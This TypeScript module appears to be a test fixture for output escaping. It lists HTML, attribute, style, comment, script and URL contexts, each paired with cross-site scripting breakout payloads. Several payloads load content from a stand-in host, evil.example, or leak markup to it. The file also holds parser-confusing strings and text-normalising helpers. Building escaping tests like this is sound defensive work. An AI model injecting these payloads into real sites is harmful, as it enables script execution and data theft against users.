/** Texts that break out of their context when they are not escaped, each with that context. */

/** Contexts into which a text is written without escaping. */
const contexts = {
  text: (text: string) => `<p>${text}</p>`,
  open: (text: string) => `<p>${text}</p><p title='a'>b</p>`,
  double: (text: string) => `<p title="${text}">a</p>`,
  single: (text: string) => `<p title='${text}'>a</p>`,
  bare: (text: string) => `<p title=${text}>a</p>`,
  title: (text: string) => `<title>${text}</title>`,
  area: (text: string) => `<textarea>${text}</textarea>`,
  style: (text: string) => `<style>p::after { content: "${text}" }</style>`,
  comment: (text: string) => `<!-- ${text} -->`,
  cdata: (text: string) => `<svg><desc><![CDATA[${text}]]></desc></svg>`,
  data: (text: string) => `<script type="application/json">{"a":"${text}"}</script>`,
  script: (text: string) => `<script>var a = "${text}";</script>`,
  quoted: (text: string) => `<script>var a = '${text}';</script>`,
  template: (text: string) => `<script>var a = \`${text}\`;</script>`,
  link: (text: string) => `<a href="${text}">a</a>`,
  frame: (text: string) => `<iframe src="${text}"></iframe>`,
  /** Parsed as HTML a second time. */
  twice: (text: string) =>
    `<p>${text}</p><script>const p = document.querySelector('p'); p.innerHTML = p.textContent;</script>`,
  /** As libraries do that evaluate expressions in a page. */
  formula: (text: string) =>
    `<p>${text}</p><script>document.querySelector('p').textContent.replace(/{{(.*)}}/, (_, words) => eval(words));</script>`,
} as const;

// biome-ignore-start lint/suspicious/noTemplateCurlyInString: one of them is for a template
const breakoutTexts: readonly (readonly [context: keyof typeof contexts, text: string])[] = [
  ['text', '<script>alert(1)</script>'],
  ['text', '<img src=x onerror=alert(1)>'],
  ['text', '<svg onload=alert(1)>'],
  ['text', '<svg/onload=alert(1)//'],
  ['text', '<iframe src=javascript:alert(1)>'],
  ['text', '<iframe srcdoc="<script>alert(1)</script>">'],
  ['text', '<details open ontoggle=alert(1)>'],
  ['text', '<object data=//evil.example/o>'],
  ['text', '<base href=//evil.example/><img src=b>'],
  ['text', '<link rel=stylesheet href=//evil.example/l>'],
  ['text', '<meta http-equiv=refresh content="0;url=//evil.example/">'],
  ['text', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['text', '<math><mtext></p><img src=x onerror=alert(1)>'],
  ['text', '<img src=//evil.example/i>'],
  ['text', '<style>@import "//evil.example/s";</style>'],
  ['text', '<input autofocus onfocus=alert(1)>'],
  ['open', "<img src='//evil.example/?"],
  ['double', '"><img src=x onerror=alert(1)>'],
  ['double', '" onmouseover="alert(1)'],
  ['double', '" autofocus tabindex=1 onfocus="alert(1)'],
  ['single', "' onmouseover='alert(1)"],
  ['single', "'><svg onload=alert(1)>"],
  ['bare', 'a onmouseover=alert(1)'],
  ['bare', 'a\u000conmouseover=alert(1)'],
  ['title', '</title><script>alert(1)</script>'],
  ['area', '</textarea><script>alert(1)</script>'],
  ['style', '</style><img src=x onerror=alert(1)>'],
  ['style', '"}*{background:url(//evil.example/b)}'],
  ['comment', '--><img src=x onerror=alert(1)><!--'],
  ['comment', '--!><script>alert(1)</script>'],
  ['cdata', ']]><img src=x onerror=alert(1)>'],
  ['data', '</script><script>alert(1)</script>'],
  ['data', '</SCRIPT\t><svg onload=alert(1)>'],
  ['script', '";alert(1);//'],
  ['script', '</script><!--<script>--><img src=x onerror=alert(1)>'],
  ['quoted', "'-alert(1)-'"],
  ['template', '${alert(1)}'],
  ['link', 'javascript:alert(1)'],
  ['link', 'JaVa\tScRiPt:alert(1)'],
  ['link', '\u0001javascript:alert(1)'],
  ['frame', 'data:text/html,<script>alert(1)</script>'],
  ['frame', '//evil.example/f'],
  ['twice', '&lt;img src=x onerror=alert(1)&gt;'],
  ['twice', '&#60;svg onload=alert(1)&#62;'],
  ['formula', '{{alert(1)}}'],
];
// biome-ignore-end lint/suspicious/noTemplateCurlyInString: one of them is for a template

/** Each text with a document in which it runs. */
export const breakouts = breakoutTexts.map(([context, text]) => ({ text, raw: contexts[context](text) }));

/** Texts that break out of nothing, but are easily mistaken for markup or syntax. */
const oddTexts = [
  "a$&b$`c$'d$1e",
  '{{7*7}} %s %d %00 %3Cb%3E',
  '&amp;lt;b&amp;gt; &lt;b&gt; &nbsp; &#x41;',
  '__proto__',
  'constructor',
  '\\u003cb\\u003e \\x3cb\\x3e \\" \\',
  '<b>粗</b><i>斜',
  '甲\u2028乙\u2029丙',
  '甲\uffff乙\ufffe丙',
  '\u202e<txet>\u2066',
  '</',
  '<!',
  '=1+1',
];

export const hostileTexts: readonly string[] = [...breakouts.map(({ text }) => text), ...oddTexts];

/** A text as a single-line field stores it: trimmed, without control characters. */
export const toSingleLine = (text: string) => text.replace(/[\u0000-\u001f\u007f\u2028\u2029]+/g, ' ').trim();

/** A text as a multi-line field stores it: trimmed, without control characters except line breaks and tabs. */
export const toMultiLine = (text: string) =>
  text.replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]+/g, '').trim();
